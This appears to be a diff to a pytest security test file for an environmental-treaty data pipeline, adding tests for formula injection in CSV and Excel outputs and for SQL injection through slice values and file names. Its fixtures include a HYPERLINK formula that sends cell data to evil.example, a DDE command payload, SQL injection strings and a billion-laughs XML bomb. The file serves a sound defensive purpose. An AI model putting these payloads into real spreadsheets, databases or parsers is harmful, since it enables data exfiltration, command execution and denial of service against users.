@@ -3,6 +3,8 @@ or huge fields, path-like file names, formula injection in the outputs, values i
 import zipfile
 from pathlib import Path
 
+import duckdb
+import openpyxl
 import pandas as pd
 import pytest
 
@@ -14,7 +16,10 @@ from extractors.landing import land
 from extractors import ramsar_nrf as ramsar_extractor
 from replica.server import SNAPSHOTS, Replica, Response
 from transforms import cbd_ort_excel, cites_trade, ramsar_nrf
+from outputs.release import build_release
 from transforms.workbooks import LayoutError
+
+from pipeline_helpers import ALL, harmonized_parts
 
 #: billion laughs: ten levels of ten-fold entity expansion, 10^9 "lol"s if a parser expanded them
 LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
@@ -158,3 +163,55 @@ def test_a_content_disposition_file_name_does_not_name_the_landed_release(data_d
     names = {p.relative_to(data_dir).as_posix() for p in files_under(data_dir)}
     assert not any("evil" in name or "owned" in name for name in names)
     assert {n.split("/")[0] for n in names} == {"raw", "run", "state"}
+
+
+# Formula injection in the outputs.
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_formula_like_text_is_escaped_in_csv_and_workbook_not_in_parquet(data_dir, upstream):
+    params = {**ALL, "sources": ["cites-trade"]}
+    parts = Path(harmonized_parts("crafted", params)[0])
+    trade = pd.read_parquet(parts / "cites_trade.parquet")
+    trade.loc[0, "taxon"], trade.loc[1, "taxon"] = FORMULA, "\t@SUM(A1:A9)"
+    trade.to_parquet(parts / "cites_trade.parquet", index=False)
+    q = pd.read_parquet(parts / "quarantine.parquet")
+    q.loc[0, "value"], q.loc[1, "value"], q.loc[2, "value"] = FORMULA, "-2.5e3", "+1 cmd|' /C calc'!A0"
+    q.to_parquet(parts / "quarantine.parquet", index=False)
+    release = build_release([str(parts)], params, "crafted")
+
+    csv = {name: pd.read_csv(release / f"{name}.csv", dtype=str, keep_default_na=False)
+           for name in ("cites_trade", "quarantine")}
+    assert {"'" + FORMULA, "'\t@SUM(A1:A9)"} <= set(csv["cites_trade"]["taxon"])  # the bulk CSV, via DuckDB
+    assert {"'" + FORMULA, "-2.5e3", "'+1 cmd|' /C calc'!A0"} <= set(csv["quarantine"]["value"])
+    assert not csv["cites_trade"]["taxon"].str.startswith(("=", "+", "-", "@", "\t")).any()
+    assert {FORMULA, "\t@SUM(A1:A9)"} <= set(pd.read_parquet(release / "cites_trade.parquet")["taxon"])
+    with duckdb.connect(str(release / "mea.duckdb"), read_only=True) as con:
+        assert con.execute("SELECT count(*) FROM quarantine WHERE value = ?", [FORMULA]).fetchone() == (1,)
+
+    sheet = openpyxl.load_workbook(release / "mea-reporting.xlsx")["quarantine"]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
+    assert len(cells) == 1 and cells[0].data_type == "s" and cells[0].quotePrefix
+    number = next(c for row in sheet.iter_rows() for c in row if c.value == "-2.5e3")
+    assert not number.quotePrefix
+
+
+# Values in SQL.
+
+def test_slice_values_and_file_names_never_become_sql(data_dir, replica):
+    inbox = data_dir / "inbox" / "cites-trade"
+    inbox.mkdir(parents=True)
+    (inbox / "O'Brien's comptab.csv").write_bytes(COMPTAB.read_bytes())
+    fetch_log = cites_extractor.extract(data_dir, data_dir / "run", url=replica.source_urls()["cites-trade"])
+    staging = cites_trade.stage(fetch_log, data_dir, data_dir / "run" / "staging")
+    assert set(pd.read_parquet(staging / "comptab")["source_file"]) == {"O'Brien's comptab.csv"}
+
+    def traded(countries, cycles=None) -> pd.DataFrame:
+        parts = cites_trade.harmonize(staging, data_dir / "run" / "parts", countries, cycles)
+        return pd.read_parquet(parts / "cites_trade.parquet")
+
+    assert traded(["KEN') OR true OR ('"]).empty
+    assert traded(["ken"], ["cites:AR2021' OR '1'='1"]).empty
+    kenya = traded(["ken"])
+    assert len(kenya) and ((kenya["importer_iso3"] == "KEN") | (kenya["exporter_iso3"] == "KEN")).all()
